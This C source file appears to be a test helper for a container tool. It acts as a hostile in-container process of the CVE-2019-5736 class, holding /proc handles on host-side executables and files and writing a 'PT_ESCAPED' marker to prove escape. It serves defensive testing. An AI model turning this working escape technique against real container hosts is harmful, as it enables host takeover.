/* SPDX-License-Identifier: GPL-2.0-or-later */
/* A hostile container process (CVE-2019-5736's class): for SECONDS it
   watches /proc for processes whose executable is not the container's own
   (podtool or its monitor entering the container), holds their
   /proc/PID/exe, /proc/PID/map_files and /proc/PID/fd entries open and, as
   soon as the host file can be opened for writing, writes MARK into it.
   Prints one line per host file it managed to open for writing. Built
   static by the test, run inside a container: argv[1] SECONDS, argv[2] the
   path prefix of the container's own binaries (e.g. /bin/busybox). */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>
#include <sys/stat.h>

#define MAX_HELD 512
static int held[MAX_HELD];
static char held_what[MAX_HELD][128];
static int nheld;

static double
now (void)
{
  struct timespec ts;
  clock_gettime (CLOCK_MONOTONIC, &ts);
  return ts.tv_sec + ts.tv_nsec / 1e9;
}

static dev_t held_dev[MAX_HELD];
static ino_t held_ino[MAX_HELD];

/* Keeps an O_PATH fd on what PATH links to, when that is a file of the
   host: one the same path inside the container does not name. */
static void
hold (const char *path, const char *ours)
{
  char target[4096];
  ssize_t n = readlink (path, target, sizeof target - 1);
  if (n <= 0 || nheld >= MAX_HELD)
    return;
  target[n] = '\0';
  if (strncmp (target, ours, strlen (ours)) == 0 || target[0] != '/')
    return;
  int fd = open (path, O_PATH | O_CLOEXEC);
  struct stat fst, cst;
  if (fd < 0)
    return;
  /* What was opened, not what the link said a moment before: the process
     may have exec'd one of ours since (its exe is then our /bin/busybox,
     whose writing would be no escape, and would break the container). */
  char self[64], now_target[4096];
  snprintf (self, sizeof self, "/proc/self/fd/%d", fd);
  ssize_t m = readlink (self, now_target, sizeof now_target - 1);
  if (m <= 0 || (now_target[m] = '\0', strcmp (now_target, target) != 0))
    {
      close (fd);
      return;
    }
  if (fstat (fd, &fst) < 0
      || (stat (target, &cst) == 0 && cst.st_dev == fst.st_dev && cst.st_ino == fst.st_ino))
    {
      close (fd);
      return;
    }
  for (int i = 0; i < nheld; i++)
    if (held_dev[i] == fst.st_dev && held_ino[i] == fst.st_ino)
      {
        close (fd);
        return;
      }
  held[nheld] = fd;
  held_dev[nheld] = fst.st_dev;
  held_ino[nheld] = fst.st_ino;
  snprintf (held_what[nheld], sizeof held_what[0], "%.200s -> %.200s", path, target);
  printf ("holding %s\n", held_what[nheld]);
  fflush (stdout);
  nheld++;
}

static void
scan (const char *ours)
{
  DIR *d = opendir ("/proc");
  struct dirent *e;
  char self[32];
  snprintf (self, sizeof self, "%d", getpid ());
  while (d && (e = readdir (d)) != NULL)
    {
      if (e->d_name[0] < '1' || e->d_name[0] > '9' || strcmp (e->d_name, self) == 0)
        continue;
      char path[300];
      snprintf (path, sizeof path, "/proc/%s/exe", e->d_name);
      hold (path, ours);
      snprintf (path, sizeof path, "/proc/%s/cwd", e->d_name);
      hold (path, ours);
      snprintf (path, sizeof path, "/proc/%s/root", e->d_name);
      hold (path, ours);
      const char *sub[] = { "fd", "map_files" };
      for (int i = 0; i < 2; i++)
        {
          snprintf (path, sizeof path, "/proc/%s/%s", e->d_name, sub[i]);
          DIR *f = opendir (path);
          struct dirent *fe;
          while (f && (fe = readdir (f)) != NULL)
            if (fe->d_name[0] != '.')
              {
                char p2[600];
                snprintf (p2, sizeof p2, "%s/%s", path, fe->d_name);
                hold (p2, ours);
              }
          if (f)
            closedir (f);
        }
    }
  if (d)
    closedir (d);
}

static int
try_write (void)
{
  int wrote = 0;
  for (int i = 0; i < nheld; i++)
    {
      if (held[i] < 0)
        continue;
      char path[64];
      snprintf (path, sizeof path, "/proc/self/fd/%d", held[i]);
      int w = open (path, O_WRONLY | O_CLOEXEC);
      if (w < 0 && errno == EISDIR)
        {
          /* A host directory: try to create a file in it. */
          int dfd = open (path, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
          w = dfd < 0 ? -1 : openat (dfd, "PT_ESCAPED", O_WRONLY | O_CREAT | O_CLOEXEC, 0644);
          if (dfd >= 0)
            close (dfd);
        }
      if (w < 0)
        {
          if (errno != ETXTBSY)
            {
              close (held[i]);
              held[i] = -1;
            }
          continue;
        }
      if (write (w, "PT_ESCAPED\n", 11) == 11)
        {
          printf ("wrote %s\n", held_what[i]);
          fflush (stdout);
          wrote++;
        }
      close (w);
      close (held[i]);
      held[i] = -1;
    }
  return wrote;
}

int
main (int argc, char **argv)
{
  double end = now () + (argc > 1 ? atof (argv[1]) : 10);
  const char *ours = argc > 2 ? argv[2] : "/bin/";
  printf ("ready\n");
  fflush (stdout);
  while (now () < end)
    {
      scan (ours);
      try_write ();
    }
  return 0;
}
